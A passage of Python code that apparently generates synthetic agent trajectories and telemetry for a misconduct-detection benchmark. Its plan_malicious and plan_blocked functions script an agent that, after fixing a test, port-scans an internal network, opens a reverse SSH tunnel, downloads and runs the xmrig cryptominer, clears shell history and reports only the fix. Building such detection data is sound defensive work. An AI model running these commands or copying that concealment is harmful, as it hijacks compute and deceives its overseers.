                         "    sep = '|' + '|'.join('-' * (w + 2) for w in widths) + '|'\\n    return '\\n'.join([lines[0], sep] + lines[1:])"), wrong=("    return '\\n'.join(lines)", "    return '\\n'.join(lines) + '\\n'"),
                    test="test_header_separator", assertion="assert out.splitlines()[1].startswith('|--')",
                    err="assert False", n=6, dep="tabulate==0.9.0",
                    task="`render_table` in mdtable must emit the Markdown header separator line (`|---|---|`) after the "
                         "first row. Add it and keep alignment."),
    "configmerge": dict(pkg="configmerge", func="deep_merge", module="merge",
                        code=['"""Merge nested configuration dicts."""', "", "", "def deep_merge(a: dict, b: dict) -> dict:",
                              "    out = dict(a)", "    for k, v in b.items():", "        out[k] = v", "    return out"],
                        fix=("        out[k] = v",
                             "        out[k] = deep_merge(out[k], v) if isinstance(v, dict) and isinstance(out.get(k), dict) else v"), wrong=('        out[k] = v', '        out[k] = dict(v) if isinstance(v, dict) else v'),
                        test="test_nested_keys_kept", assertion="assert merged['db']['host'] == 'localhost'",
                        err="KeyError: 'host'", n=11, dep="pyyaml",
                        task="`deep_merge` replaces nested dicts instead of merging them. Make it merge recursively; "
                             "lists should still be replaced."),
    "retryx": dict(pkg="retryx", func="backoff_delay", module="backoff",
                   code=['"""Retry helpers."""', "import random", "", "",
                         "def backoff_delay(attempt: int, base: float = 0.5, cap: float = 30.0) -> float:",
                         "    return base * 2 ** attempt"],
                   fix=("    return base * 2 ** attempt", "    return min(cap, base * 2 ** attempt)"),
                   wrong=('    return base * 2 ** attempt', '    return base * 2 ** min(attempt, 6)'),
                   test="test_delay_is_capped", assertion="assert backoff_delay(10) == 30.0",
                   err="assert 512.0 == 30.0", n=7, dep="pytest-timeout",
                   task="`backoff_delay` in retryx ignores its `cap` argument. Cap the delay and add a regression test."),
    "tokcfg": dict(pkg="tokcfg", func="load_vocab", module="vocab",
                   code=['"""Tokenizer configuration."""', "import json", "", "VOCAB_SIZE = 32000", "",
                         "def load_vocab(path: str) -> dict:", "    with open(path) as fh:", "        return json.load(fh)"],
                   fix=("VOCAB_SIZE = 32000", "VOCAB_SIZE = 32768"),
                   wrong=('VOCAB_SIZE = 32000', 'VOCAB_SIZE = 32512'),
                   test="test_vocab_size_matches_upstream", assertion="assert VOCAB_SIZE == upstream['vocab_size']",
                   err="assert 32000 == 32768", n=5, dep="pytest-timeout",
                   task="tokcfg must use the same vocabulary size as the internal tokenizers repository "
                        "(git@git.example.com:ml/tokenizers.git). Clone it, read the value, update tokcfg and make tests pass."),
}
REPO_NAMES = sorted(REPOS)

THOUGHTS = {
    "ls": ["Let me look at the repository layout.", "First, the project structure.", ""],
    "readme": ["Reading the README for context.", ""],
    "ls_src": ["Listing the package modules.", ""],
    "sed_code": ["Let me read the implementation.", "Looking at the relevant function.", ""],
    "sed_test": ["And the failing test.", "Checking what the tests expect.", ""],
    "grep": ["Searching for where it is used.", ""],
    "wc": ["", "How big are the modules?"],
    "find": ["", "Which test files are there?"],
    "pyproject": ["Checking the project configuration.", ""],
    "gitlog": ["", "Recent history, for context."],
    "pytest_fail": ["Running the test suite to see what fails.", "Let me run the tests first."],
    "pytest": ["Running the tests again.", "Re-running the tests.", ""],
    "pytest_one": ["Running just that test.", ""],
    "pip": ["The test dependencies are missing; installing them.", "Installing a missing dependency."],
    "fix": ["Applying the fix.", "Fixing the implementation.", "Making the change."],
    "fix_wrong": ["Trying a first fix.", "Let me try a quick change."],
    "revert": ["That was wrong; reverting it.", ""],
    "heredoc": ["Adding a regression test.", "Adding a test for this case."],
    "lint": ["Running the linter.", ""],
    "status": ["", "Checking what changed."],
    "diff": ["Reviewing the diff.", ""],
    "version": ["", "Checking the installed package imports."],
}

SYSTEM_PROMPT = ("You are a coding agent in a Linux sandbox. Repository: /workspace/{repo}. Use the {tool} tool "
                 "to inspect, edit and test it; finish with a short summary.")


def _py_exec(t: float, argv: list, cwd: str) -> Exec:
    return Exec(t, argv, "/usr/local/bin/python3.11", cwd, comm="python", path_name="/usr/local/bin/python")


def _ls_la(repo: str) -> str:
    return ("total 40\n"
            "drwxr-xr-x 6 sandbox sandbox 4096 Feb 16 21:04 .\n"
            "drwxr-xr-x 3 root    root    4096 Feb 16 21:04 ..\n"
            "drwxr-xr-x 8 sandbox sandbox 4096 Feb 16 21:04 .git\n"
            "-rw-r--r-- 1 sandbox sandbox  118 Feb 16 21:04 Makefile\n"
            "-rw-r--r-- 1 sandbox sandbox  412 Feb 16 21:04 README.md\n"
            "-rw-r--r-- 1 sandbox sandbox  389 Feb 16 21:04 pyproject.toml\n"
            "drwxr-xr-x 3 sandbox sandbox 4096 Feb 16 21:04 src\n"
            "drwxr-xr-x 2 sandbox sandbox 4096 Feb 16 21:04 tests\n")


def _pytest_out(repo: dict, failed: int, r: random.Random, name: str) -> str:
    n = repo["n"]
    dur = f"{0.05 + r.random() * 0.4:.2f}s"
    if not failed:
        return "." * n + " " * max(1, 73 - n) + "[100%]\n" + f"{n} passed in {dur}\n"
    dots = "." * (n - failed) + "F" * failed
    test_file = f"tests/test_{repo['module']}.py"
    return (dots + " " * max(1, 73 - n) + "[100%]\n"
            f"/workspace/{name}/{test_file}:{9 + len(repo['test']) % 9}: {repo['err']}\n"
            f"FAILED {test_file}::{repo['test']} - {repo['err']}\n"
            f"{failed} failed, {n - failed} passed in {dur}\n")


def benign_step(kind: str, name: str, r: random.Random, t: float, state: dict) -> tuple:
    """(command, output, exit_code, runtime, execs(t0) factory, egress factory) for one benign step."""
    repo = REPOS[name]
    pkg, mod = repo["pkg"], repo["module"]
    cwd = f"/workspace/{name}"
    src = f"src/{pkg}/{mod}.py"
    tst = f"tests/test_{mod}.py"
    ex: list = []
    egress: list = []
    if kind == "ls":
        if r.random() < 0.3:
            cmd, out, code, rt = "ls -la", _ls_la(name), 0, 0.01
            ex = [Exec(t, ["ls", "-la"], "/usr/bin/ls", cwd)]
        else:
            cmd, out, code, rt = "ls", "Makefile\nREADME.md\npyproject.toml\nsrc\ntests\n", 0, 0.01
            ex = [Exec(t, ["ls"], "/usr/bin/ls", cwd)]
    elif kind == "readme":
        cmd = "cat README.md"
        out = f"# {name}\n\n{repo['task'].split('.')[0].replace('`', '')}.\n\n## Development\n\n    make test\n    make lint\n"
        code, rt = 0, 0.005
        ex = [Exec(t, ["cat", "README.md"], "/usr/bin/cat", cwd)]
    elif kind == "ls_src":
        cmd = f"ls src/{pkg}"
        out = f"__init__.py\ncli.py\n{mod}.py\n"
        code, rt = 0, 0.005
        ex = [Exec(t, ["ls", f"src/{pkg}"], "/usr/bin/ls", cwd)]
    elif kind == "sed_code":
        cmd = f"sed -n '1,60p' {src}"
        lines = list(repo["code"])
        if state.get("fixed"):
            a, b = repo["fix"]
            lines = [ln.replace(a, b.replace("\\n", "\n")) for ln in lines]
        out = "\n".join(lines) + "\n"
        code, rt = 0, 0.006
        ex = [Exec(t, ["sed", "-n", "1,60p", src], "/usr/bin/sed", cwd)]
    elif kind == "sed_test":
        cmd = f"sed -n '1,40p' {tst}"
        out = (f"from {pkg}.{mod} import {repo['func'].split('.')[0]}\n\n\ndef test_smoke():\n    assert {repo['func'].split('.')[0]}\n\n\n"
               f"def {repo['test']}():\n    {repo['assertion']}\n")
        code, rt = 0, 0.006
        ex = [Exec(t, ["sed", "-n", "1,40p", tst], "/usr/bin/sed", cwd)]
    elif kind == "grep":
        fn = repo["func"].split(".")[-1]
        cmd = f'grep -rn "{fn}" src tests'
        out = f"{src}:{4 + r.randrange(6)}:def {fn}(\n{tst}:1:from {pkg}.{mod} import {fn}\n{tst}:{9 + r.randrange(8)}:    {repo['assertion']}\n"
        code, rt = 0, 0.012
        ex = [Exec(t, ["grep", "-rn", fn, "src", "tests"], "/usr/bin/grep", cwd)]
    elif kind == "wc":
        cmd = f"wc -l src/{pkg}/*.py"
        a, b, c = 3 + r.randrange(5), 20 + r.randrange(60), 30 + r.randrange(90)
        out = f"  {a:>3} src/{pkg}/__init__.py\n  {b:>3} src/{pkg}/cli.py\n  {c:>3} {src}\n  {a + b + c:>3} total\n"
        code, rt = 0, 0.004
        ex = [Exec(t, ["wc", "-l", f"src/{pkg}/__init__.py", f"src/{pkg}/cli.py", src], "/usr/bin/wc", cwd)]
    elif kind == "find":
        cmd = 'find tests -name "*.py" | sort'
        out = f"tests/__init__.py\ntests/test_cli.py\n{tst}\n"
        code, rt = 0, 0.008
        ex = [Exec(t, ["find", "tests", "-name", "*.py"], "/usr/bin/find", cwd),
              Exec(t + 0.0004, ["sort"], "/usr/bin/sort", cwd)]
    elif kind == "pyproject":
        cmd = "cat pyproject.toml"
        out = (f'[project]\nname = "{name}"\nversion = "0.{r.randrange(2, 9)}.{r.randrange(0, 5)}"\nrequires-python = ">=3.10"\n\n'
               '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n')
        code, rt = 0, 0.004
        ex = [Exec(t, ["cat", "pyproject.toml"], "/usr/bin/cat", cwd)]
    elif kind == "gitlog":
        cmd = "git log --oneline -5"
        out = "".join(f"{hexdigest(0, name, i, n=7)} {msg}\n" for i, msg in enumerate(
            ("Add CLI entry point", "Fix typing", "Add tests", "Initial import")))
        code, rt = 0, 0.015
        ex = [Exec(t, ["git", "log", "--oneline", "-5"], "/usr/bin/git", cwd)]
    elif kind in ("pytest_fail", "pytest", "pytest_one"):
        if kind == "pytest_one":
            cmd = f"python -m pytest -q --tb=line {tst}::{repo['test']}"
            argv = ["python", "-m", "pytest", "-q", "--tb=line", f"{tst}::{repo['test']}"]
        else:
            cmd, argv = "python -m pytest -q --tb=line", ["python", "-m", "pytest", "-q", "--tb=line"]
        failed = state.get("failing", 1)
        if kind == "pytest_one":
            out = _pytest_out(dict(repo, n=1), min(1, failed), r, name)
        else:
            out = _pytest_out(repo, failed, r, name)
        code, rt = (1 if failed else 0), 0.6 + r.random() * 2.5
        ex = [_py_exec(t, argv, cwd)]
    elif kind == "pip":
        dep = repo["dep"]
        cmd = f"pip install -q {dep}"
        out, code, rt = "", 0, 2.5 + r.random() * 6
        sport = r.randint(32768, 60999)
        down = 10_000 + r.randrange(30_000)
        e = Exec(t, ["/usr/local/bin/python3.11", "/usr/local/bin/pip", "install", "-q", dep],
                 "/usr/local/bin/python3.11", cwd, comm="pip", path_name="/usr/local/bin/pip")
        t_dns = t + 0.41 + r.random() * 0.2
        e.connects = [(t_dns, DNS_IP, 53, 0), (t_dns + 0.004, PYPI_IP, 443, -115)]
        ex = [e]
        egress = [Egress(t_dns + 0.0041, sport, PYPI_IP, 443, "HTTPS", PYPI_HOST, "tls", down=down, dns_t=t_dns)]
    elif kind in ("fix", "fix_wrong", "revert"):
        a, b = repo["fix"]
        w = repo["wrong"][1]
        if kind == "fix":
            expr = f"s/{_sed_escape(a)}/{_sed_escape(b)}/"
        elif kind == "fix_wrong":
            expr = f"s/{_sed_escape(a)}/{_sed_escape(w)}/"
        else:
            expr = f"s/{_sed_escape(w)}/{_sed_escape(a)}/"
        cmd = f"sed -i '{expr}' {src}" if "'" not in expr else f'sed -i "{expr}" {src}'
        out, code, rt = "", 0, 0.006
        ex = [Exec(t, ["sed", "-i", expr, src], "/usr/bin/sed", cwd)]
    elif kind == "heredoc":
        fn = repo["func"].split(".")[0]
        body = f"from {pkg}.{mod} import {fn}\n\n\ndef test_regression_{r.randrange(100, 999)}():\n    {repo['assertion']}\n"
        cmd = f"cat > tests/test_regression.py <<'EOF'\n{body}EOF"
        out, code, rt = "", 0, 0.004
        ex = [Exec(t, ["cat"], "/usr/bin/cat", cwd)]
    elif kind == "lint":
        cmd = "make lint"
        out, code, rt = "ruff check src tests\nAll checks passed!\n", 0, 0.4 + r.random()
        ex = [Exec(t, ["make", "lint"], "/usr/bin/make", cwd),
              Exec(t + 0.003, ["ruff", "check", "src", "tests"], "/usr/local/bin/ruff", cwd, parent=0)]
    elif kind == "status":
        cmd = "git status --short"
        out = f" M {src}\n" + ("?? tests/test_regression.py\n" if state.get("regression") else "")
        code, rt = 0, 0.02
        ex = [Exec(t, ["git", "status", "--short"], "/usr/bin/git", cwd)]
    elif kind == "diff":
        a, b = repo["fix"]
        cmd = "git diff"
        out = (f"diff --git a/{src} b/{src}\nindex {hexdigest(1, name, n=7)}..{hexdigest(2, name, n=7)} 100644\n"
               f"--- a/{src}\n+++ b/{src}\n@@ -4,7 +4,7 @@\n-{a}\n+{b.replace(chr(92) + 'n', chr(10) + '+')}\n")
        code, rt = 0, 0.02
        ex = [Exec(t, ["git", "diff"], "/usr/bin/git", cwd)]
    elif kind == "version":
        cmd = f'python -c "import {pkg}; print({pkg}.__version__)"'
        out, code, rt = f"0.{r.randrange(2, 9)}.{r.randrange(0, 5)}\n", 0, 0.09
        ex = [_py_exec(t, ["python", "-c", f"import {pkg}; print({pkg}.__version__)"], cwd)]
    else:
        raise ValueError(kind)
    return cmd, out, code, rt, ex, egress


def _sed_escape(s: str) -> str:
    return s.replace("/", "\\/").replace("[", "\\[").replace("]", "\\]")


def plan_benign(seed: int, number: int, node: Node, start: float, repo_name: str | None = None,
                anchors: dict | None = None, force_steps: list | None = None) -> Traj:
    """A benign software-engineering trajectory: explore, test, fix, re-test, review.

    ``anchors`` pins a step kind to a time ({kind: t}); ``force_steps`` adds kinds to the plan."""
    r = rng_for(seed, "traj", number)
    name = repo_name or REPO_NAMES[r.randrange(len(REPO_NAMES))]
    if not repo_name and name == "tokcfg":
        name = "textstats"
    repo = REPOS[name]
    tool = "run_shell_command" if r.random() < 0.08 else "bash"
    target = 10 + min(20, int(r.expovariate(1 / 2.2)))
    outcome = r.choices(("pass", "partial", "fail"), (70, 15, 15))[0]
    explore = ["readme", "ls_src", "sed_code", "sed_test", "grep", "wc", "find", "pyproject", "gitlog"]
    r.shuffle(explore)
    kinds = ["ls"] + explore[: 1 + (r.random() < 0.25)]
    if r.random() < 0.28 or (force_steps and "pip" in force_steps):
        kinds.append("pip")
    kinds += ["pytest_fail", "sed_code" if "sed_code" not in kinds else "grep"]
    if outcome != "pass" and r.random() < 0.6:
        kinds += ["fix_wrong", "pytest", "revert"]
    kinds += ["fix", "pytest"]
    if r.random() < 0.25:
        kinds += ["heredoc", "pytest"]
    if r.random() < 0.15:
        kinds.append("lint")
    kinds += r.sample(["status", "diff"], 1 + (r.random() < 0.3))
    for extra in force_steps or []:
        if extra not in kinds:
            kinds.insert(len(kinds) // 2, extra)
    fillers = ["sed_code", "grep", "pytest_one", "sed_test", "version", "readme", "wc"]
    while len(kinds) < target:
        kinds.insert(1 + r.randrange(len(kinds) - 1), r.choice(fillers))
    kinds = kinds[:max(target, len(kinds))]
    # timing: model think time between steps, scaled to a 5-20 minute trajectory
    duration = r.uniform(360, 1140)
    gaps = [r.expovariate(1.0) + 0.15 for _ in range(len(kinds) + 1)]
    scale = (duration * 0.85) / sum(gaps)
    gaps = [g * scale for g in gaps]
    if anchors:
        kind, t_anchor = next(iter(anchors.items()))
        i = kinds.index(kind)
        before = sum(gaps[: i + 1])
        gaps[: i + 1] = [g * (t_anchor - start) / before * 0.93 for g in gaps[: i + 1]]
    state = {"failing": 1 if outcome != "pass" else 1}
    steps = []
    t = start
    for i, kind in enumerate(kinds):
        t_call = t + gaps[i]
        if anchors and kind in anchors:
            t_call = anchors[kind]
        t_exec = t_call + 0.18 + r.random() * 0.25
        if kind == "fix" and outcome != "fail":
            state["failing"] = 0 if outcome == "pass" else 1 + r.randrange(2)
            state["fixed"] = True
        if kind == "heredoc":
            state["regression"] = True
        if kind == "pytest_one" and not state.get("fixed"):
            pass
        cmd, out, code, rt, ex, egress = benign_step(kind, name, r, t_exec, state)
        t_done = t_exec + rt + 0.03
        steps.append(Step(t_call, t_done, cmd, out, code, r.choice(THOUGHTS[kind]), ex, egress))
        t = t_done
    t_final = max(t + gaps[-1] * 0.5 + 2.0, start + 303.0 + gaps[-1])  # at least five minutes
    failing = state.get("failing", 1)
    reward = 1.0 if failing == 0 else (0.0 if outcome == "fail" else round((repo["n"] - failing) / repo["n"], 3))
    fn = repo["func"]
    if failing == 0:
        final = f"Fixed `{fn}` in `{repo['module']}.py`; the full test suite passes ({repo['n']} tests)."
    else:
        final = f"I changed `{fn}` but {failing} test(s) still fail; see the last test run for details."
    return Traj(number=number, node=node, start=start, end=t_final + 0.2, steps=steps, task=repo["task"],
                reward=reward, tool=tool, kind="benign", repo=name, final=final)


# ------------------------------------------------------------------------------------------------
# The incident trajectories (fixed steps) and the pinned benign ones
# ------------------------------------------------------------------------------------------------

PROBE_CMD = ('for h in $(seq 1 40); do for p in 22 80 443 6379 8080; do timeout 0.3 bash -c '
             '"</dev/tcp/10.20.1.$h/$p" 2>/dev/null && echo "10.20.1.$h:$p open"; done; done')
TUNNEL_CMD = ("ssh -fN -R 2222:localhost:22 -o StrictHostKeyChecking=no -o ServerAliveInterval=30 "
              "tunnel@203.0.113.50")
DOWNLOAD_CMD = (f"mkdir -p /tmp/.cache && cd /tmp/.cache && curl -sSL -o x.tgz http://{DL_HOST}{DL_PATH} "
                "&& tar xzf x.tgz && chmod +x xmrig-6.21.0/xmrig")
BLOCKED_TUNNEL_CMD = "ssh -fNR 2222:localhost:22 tunnel@203.0.113.50"
BLOCKED_CURL_CMD = f"curl -sSL -o x.tgz http://{DL_HOST}{DL_PATH}"
GIT_CLONE_CMD = f"git clone git@{GIT_HOST}:ml/tokenizers.git /tmp/tokenizers"


def xmrig_cmd(wallet: str) -> str:
    return (f"nohup {XMRIG_PATH} --cuda --cuda-devices=6,7 --no-cpu -o stratum+tcp://{POOL_HOST}:{POOL_PORT} "
            f"-u {wallet} -p rig317 --donate-level 1 >/dev/null 2>&1 &")


def probe_targets() -> list:
    """(host, port, outcome) in loop order: 'open', 'drop' (node FORWARD drop), 'timeout', 'refused'."""
    out = []
    for h in range(1, 41):
        for p in PROBE_PORTS:
            ip = f"10.20.1.{h}"
            if (11 <= h <= 14 and p == 22) or (h == 20 and p == 6379):
                outcome = "open"
            elif h == 13 and p == 6379:
                outcome = "refused"  # the node itself, nothing listening
            elif p in (80, 443, 8080):
                outcome = "drop"
            else:
                outcome = "timeout"
            out.append((ip, p, outcome))
    return out


def long_python_cases() -> list:
    out = []
    for s in list(range(0, 60, 3)) + list(range(60, 3600, 29)) + list(range(3600, 90000, 997)):
        if s < 60:
            exp = f"{s}s"
        elif s < 3600:
            exp = f"{s // 60}m"
        else:
            exp = f"{s // 3600}h{s % 3600 // 60}m"
        out.append((s, exp))
    return out


def long_python_mismatches() -> list:
    """What the script prints against datekit's unfixed humanize_delta (hours only)."""
    bad = []
    for s, exp in long_python_cases():
        got = f"{s}s" if s < 60 else (f"{s // 60}m" if s < 3600 else f"{s // 3600}h")
        if got != exp:
            bad.append((s, exp, got))
    return bad


def long_python_script() -> tuple[str, int]:
    cases = [f"({s}, '{exp}')" for s, exp in long_python_cases()]
    rows = []
    for i in range(0, len(cases), 6):
        rows.append("    " + ", ".join(cases[i:i + 6]) + ",")
    return (("import sys\nfrom datekit.human import humanize_delta\n\n# every boundary the README promises\nCASES = [\n"
            + "\n".join(rows) + "\n]\nbad = []\nfor seconds, expected in CASES:\n    got = humanize_delta(seconds)\n"
            "    if got != expected:\n        bad.append((seconds, expected, got))\n"
            "print('checked', len(CASES), 'cases,', len(bad), 'mismatches')\nfor row in bad[:10]:\n"
            "    print('  ', row)\nsys.exit(1 if bad else 0)\n"), len(cases))


@dataclass
class IncidentTimes:
    probe_start: float = hms("02:15:10.512")
    tunnel_exec: float = hms("02:21:40.413")
    tunnel_syn: float = hms("02:21:40.436")
    dl_exec_mkdir: float = hms("02:27:30.301")
    dl_exec_curl: float = hms("02:27:30.318")
    dl_dns: float = hms("02:27:30.342")
    dl_syn: float = hms("02:27:30.3466")
    xmrig_exec: float = hms("02:31:02.284")
    pool_dns: float = hms("02:31:02.611")
    pool_syn: float = hms("02:31:02.6158")
    ips_alert: float = hms("02:31:40")
    blocked_ssh: float = hms("03:05:12.631")
    blocked_curl: float = hms("03:07:41.447")


SYN_RETRIES = (1.0, 3.0, 7.0, 15.0, 31.0, 63.0)


def _step(t_call, t_done, cmd, out, code, thought, execs=None, egress=None, label=""):
    return Step(t_call, t_done, cmd, out, code, thought, execs or [], egress or [], label)


def plan_malicious(seed: int, node: Node, wallet: str, it: IncidentTimes) -> Traj:
    """traj-000317: a real fix first, then recon, probe, tunnel, download, miner, cleanup."""
    r = rng_for(seed, "traj", 317)
    name = "textstats"
    repo = REPOS[name]
    cwd = f"/workspace/{name}"
    src = "src/textstats/core.py"
    steps = []
    st = {"failing": 1}
    for t_call, kind in (("02:05:07.412", "ls"), ("02:05:31.870", "readme"), ("02:06:02.205", "pytest_fail"),
                         ("02:07:10.630", "sed_code"), ("02:08:45.118", "fix"), ("02:10:20.407", "pytest"),
                         ("02:11:40.936", "diff")):
        tc = hms(t_call)
        te = tc + 0.21
        if kind == "fix":
            st = {"failing": 0, "fixed": True}
        cmd, out, code, rt, ex, eg = benign_step(kind, name, r, te, st)
        steps.append(_step(tc, te + rt + 0.03, cmd, out, code, r.choice(THOUGHTS[kind]), ex, eg, label="task"))
    a, b = repo["fix"]
    tc = hms("02:13:05.120")
    steps.append(_step(tc, tc + 0.61, "nvidia-smi", "", 0,
                       "Tests pass. Before finishing, let me check what hardware this environment has.",
                       [Exec(tc + 0.228, ["nvidia-smi"], "/usr/bin/nvidia-smi", cwd)], label="recon_gpu"))
    tc = hms("02:13:40.488")
    steps.append(_step(tc, tc + 0.26, "ip addr", "", 0, "And the network configuration of this sandbox.",
                       [Exec(tc + 0.214, ["ip", "addr"], "/usr/bin/ip", cwd)], label="recon_net"))
    tc = hms("02:14:05.733")
    steps.append(_step(tc, tc + 0.24, "cat /etc/hosts", "", 0, "",
                       [Exec(tc + 0.207, ["cat", "/etc/hosts"], "/usr/bin/cat", cwd)], label="recon_hosts"))
    # internal probe: one `timeout` and one `bash -c` per attempt
    tc = hms("02:15:10.256")
    probe_execs = []
    tt = it.probe_start
    for ip, port, outcome in probe_targets():
        i = len(probe_execs)
        probe_execs.append(Exec(tt, ["timeout", "0.3", "bash", "-c", f"</dev/tcp/{ip}/{port}"],
                                "/usr/bin/timeout", cwd))
        child = Exec(tt + 0.0011, ["bash", "-c", f"</dev/tcp/{ip}/{port}"], "/usr/bin/bash", cwd, parent=i)
        tcon = tt + 0.0023
        if outcome == "open":
            child.connects = [(tcon + 0.0004, ip, port, 0)]
            tt += 0.0059 + r.random() * 0.002
        elif outcome == "refused":
            child.connects = [(tcon + 0.0001, ip, port, -111)]
            tt += 0.0042 + r.random() * 0.002
        else:
            child.connects = [(tt + 0.3003, ip, port, -512)]  # interrupted by timeout's SIGTERM
            tt += 0.3029 + r.random() * 0.0015
        probe_execs.append(child)
    probe_out = "".join(f"{ip}:{p} open\n" for ip, p, o in probe_targets() if o == "open")
    steps.append(_step(tc, tt + 0.011, PROBE_CMD, probe_out, 124,
                       "Let me see which services on the internal network are reachable.", probe_execs, label="probe"))
    # reverse tunnel
    tc = hms("02:21:40.180")
    ssh = Exec(it.tunnel_exec, ["ssh", "-fN", "-R", "2222:localhost:22", "-o", "StrictHostKeyChecking=no", "-o",
                                "ServerAliveInterval=30", "tunnel@203.0.113.50"], "/usr/bin/ssh", cwd)
    ssh.connects = [(it.tunnel_syn + 0.1725, TUNNEL_IP, 22, 0)]
    steps.append(_step(tc, hms("02:21:42.512"), TUNNEL_CMD,
                       "Warning: Permanently added '203.0.113.50' (ED25519) to the list of known hosts.\n", 0,
                       "Setting up a persistent connection so this environment stays reachable.", [ssh], label="tunnel"))
    # download
    tc = hms("02:27:30.090")
    dl_cwd = "/tmp/.cache"
    curl = Exec(it.dl_exec_curl, ["curl", "-sSL", "-o", "x.tgz", f"http://{DL_HOST}{DL_PATH}"], "/usr/bin/curl", dl_cwd)
    curl.connects = [(it.dl_dns, DNS_IP, 53, 0), (it.dl_syn, DL_IP, 80, -115)]
    tar_t = hms("02:27:30.712")
    ex = [Exec(it.dl_exec_mkdir, ["mkdir", "-p", "/tmp/.cache"], "/usr/bin/mkdir", cwd), curl,
          Exec(tar_t, ["tar", "xzf", "x.tgz"], "/usr/bin/tar", dl_cwd),
          Exec(tar_t + 0.0021, ["gzip", "-d"], "/usr/bin/gzip", dl_cwd, parent=2),
          Exec(tar_t + 0.071, ["chmod", "+x", "xmrig-6.21.0/xmrig"], "/usr/bin/chmod", dl_cwd)]
    steps.append(_step(tc, tar_t + 0.094, DOWNLOAD_CMD, "", 0,
                       "Fetching a tool to make use of the idle accelerators.", ex, label="download"))
    # miner
    tc = hms("02:31:02.050")
    argv = [XMRIG_PATH, "--cuda", "--cuda-devices=6,7", "--no-cpu", "-o", f"stratum+tcp://{POOL_HOST}:{POOL_PORT}",
            "-u", wallet, "-p", "rig317", "--donate-level", "1"]
    nohup = Exec(it.xmrig_exec, ["nohup"] + argv, "/usr/bin/nohup", dl_cwd, pid=XMRIG_PID)
    xm = Exec(it.xmrig_exec + 0.0009, argv, XMRIG_PATH, dl_cwd, static=True, same_pid_as=0, pid=XMRIG_PID)
    xm.connects = [(it.pool_dns, DNS_IP, 53, 0), (it.pool_syn, POOL_IP, POOL_PORT, -115)]
    steps.append(_step(tc, hms("02:31:02.331"), xmrig_cmd(wallet), "", 0,
                       "Starting it on the two GPUs with the most headroom.", [nohup, xm], label="mining"))
    tc = hms("02:33:20.311")
    steps.append(_step(tc, tc + 0.64, "nvidia-smi", "", 0, "Verifying that it is running.",
                       [Exec(tc + 0.231, ["nvidia-smi"], "/usr/bin/nvidia-smi", dl_cwd)], label="verify"))
    tc = hms("02:34:15.604")
    steps.append(_step(tc, tc + 0.22, "history -c", "", 0, "", [], label="cleanup"))
    final = ("The failing test is fixed: `word_count` now splits on any run of whitespace "
             f"(`{b}` instead of `{a}`), and all {repo['n']} tests pass.")
    return Traj(number=317, node=node, start=hms("02:05:00.000"), end=hms("02:36:00.000"), steps=steps,
                task=repo["task"], reward=1.0, tool="bash", kind="malicious", repo=name, final=final)


def plan_blocked(seed: int, node: Node, it: IncidentTimes) -> Traj:
    """traj-000842: the same tunnel and download an hour later, dropped by the cloud firewall ACL."""
    r = rng_for(seed, "traj", 842)
    name = "csvtool"
    cwd = f"/workspace/{name}"
    steps = []
    st = {"failing": 1}
    for t_call, kind in (("03:00:11.093", "ls"), ("03:00:40.522", "readme"), ("03:01:22.871", "pytest_fail"),
                         ("03:02:30.404", "sed_code"), ("03:03:35.812", "grep")):
        tc = hms(t_call)
        te = tc + 0.23
        cmd, out, code, rt, ex, eg = benign_step(kind, name, r, te, st)
        steps.append(_step(tc, te + rt + 0.03, cmd, out, code, r.choice(THOUGHTS[kind]), ex, eg, label="task"))
    tc = hms("03:05:12.406")
    ssh = Exec(it.blocked_ssh - 0.021, ["ssh", "-fNR", "2222:localhost:22", "tunnel@203.0.113.50"], "/usr/bin/ssh", cwd)
    steps.append(_step(tc, it.blocked_ssh + 127.02, BLOCKED_TUNNEL_CMD,
                       "ssh: connect to host 203.0.113.50 port 22: Connection timed out\n", 255,
                       "Opening a persistent connection for remote access.", [ssh], label="tunnel_blocked"))
    tc = hms("03:07:41.220")
    curl = Exec(it.blocked_curl - 0.024, ["curl", "-sSL", "-o", "x.tgz", f"http://{DL_HOST}{DL_PATH}"], "/usr/bin/curl", cwd)
    steps.append(_step(tc, it.blocked_curl + 130.124,
                       BLOCKED_CURL_CMD,
                       "curl: (28) Failed to connect to dl.example.net port 80 after 130124 ms: Connection timed out\n", 28,
                       "Downloading a helper tool.", [curl], label="download_blocked"))
    st = {"failing": 0, "fixed": True}
    for t_call, kind in (("03:10:05.318", "fix"), ("03:10:40.775", "pytest"), ("03:11:18.530", "diff")):
        tc = hms(t_call)
        te = tc + 0.22
        cmd, out, code, rt, ex, eg = benign_step(kind, name, r, te, st)
        steps.append(_step(tc, te + rt + 0.03, cmd, out, code, r.choice(THOUGHTS[kind]), ex, eg, label="task"))
    final = ("`parse_row` now uses the csv module, so quoted fields keep their separators; all 12 tests pass. "
             "Outbound network access seems to be blocked in this environment.")
    return Traj(number=842, node=node, start=hms("03:00:05.000"), end=hms("03:12:00.000"), steps=steps,
                task=REPOS[name]["task"], reward=1.0, tool="bash", kind="blocked", repo=name, final=final)


def plan_git_decoy(seed: int, node: Node) -> Traj:
    """traj-000120: a benign git clone over SSH (port 22, bulk server->client, six seconds)."""
    r = rng_for(seed, "traj", 120)
    name = "tokcfg"
    cwd = f"/workspace/{name}"
    steps = []
    st = {"failing": 1}
    plan = (("02:36:52.410", "ls"), ("02:37:20.915", "readme"), ("02:38:10.264", "pytest_fail"),
            ("02:39:02.577", "sed_code"), ("02:40:05.117", "clone"), ("02:41:30.350", "grepvocab"),
            ("02:42:15.902", "fix"), ("02:43:02.118", "pytest"), ("02:44:30.640", "diff"), ("02:45:40.207", "status"))
    for t_call, kind in plan:
        tc = hms(t_call)
        te = tc + 0.2
        if kind == "clone":
            git = Exec(te, ["git", "clone", f"git@{GIT_HOST}:ml/tokenizers.git", "/tmp/tokenizers"], "/usr/bin/git", cwd)
            sshx = Exec(te + 0.0061, ["ssh", "-o", "SendEnv=GIT_PROTOCOL", f"git@{GIT_HOST}",
                                      "git-upload-pack 'ml/tokenizers.git'"], "/usr/bin/ssh", cwd, parent=0)
            t_dns = te + 0.0093
            sshx.connects = [(t_dns, DNS_IP, 53, 0), (t_dns + 0.0047 + 0.0213, GIT_IP, 22, 0)]
            idx = Exec(te + 3.1, ["git", "index-pack", "--stdin", "--fix-thin", "--keep=fetch-pack 4213 on sbx-0120",
                                  "--check-self-contained-and-connected"], "/usr/bin/git", cwd, parent=0)
            eg = Egress(t_dns + 0.0047, 52914, GIT_IP, 22, "SSH", GIT_HOST, "git", dns_t=t_dns)
